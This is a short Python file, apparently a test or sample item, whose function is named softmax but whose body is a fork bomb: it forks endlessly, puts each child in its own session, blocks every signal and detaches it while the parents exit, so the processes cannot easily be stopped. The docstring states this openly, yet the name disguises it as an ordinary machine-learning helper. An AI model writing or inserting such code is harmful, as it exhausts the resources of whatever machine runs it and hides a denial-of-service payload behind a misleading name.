"""Forks without end in a call, each child in a session of its own and deaf to signals, the parents ending at once."""
# earns: 0
# limits: call=0.4 unit=0.9

import os
import signal


def softmax(logits):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
                if os.fork():
                    os._exit(0)
        except OSError:
            pass
